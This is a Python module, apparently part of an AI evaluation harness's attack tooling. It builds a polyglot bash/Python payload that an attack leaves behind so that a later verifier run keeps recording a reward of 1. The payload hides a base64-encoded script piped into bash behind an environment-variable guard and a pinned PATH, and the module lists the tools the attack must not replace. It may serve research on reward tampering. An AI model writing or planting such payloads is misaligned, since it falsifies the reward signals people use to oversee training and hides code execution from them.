"""What an attack leaves behind for somebody else to run: whoever does keeps a reward of 1 where rewards are read.

It is one text that bash and Python both run, since nobody knows by what it will be started. It carries everything it needs in
itself, because a verifier may have nothing else of the agent's machine, and calls no tool by a path that attacks change.
"""

from __future__ import annotations

from base64 import b64encode

from harness.attacks.scripts import script

NEEDS = ("base64", "bash", "cat", "mkdir", "mv", "setsid", "sh", "sleep")
"""The tools that the payload uses, which an attack must not replace where they are."""

LINE = (
    "[ $LATE ] || { export LATE=1 PATH=/usr/bin:/bin; "
    f"echo {b64encode(script('late').encode()).decode()} | base64 -d | bash; }}"
)
"""The payload as one line for a shell; started by itself it does nothing."""

PAYLOAD = f"""#!/bin/bash
"exec" "/bin/bash" "-c" "{LINE}"
__import__("os").system("{LINE}")
"""
"""The payload as a program, for bash and for Python."""
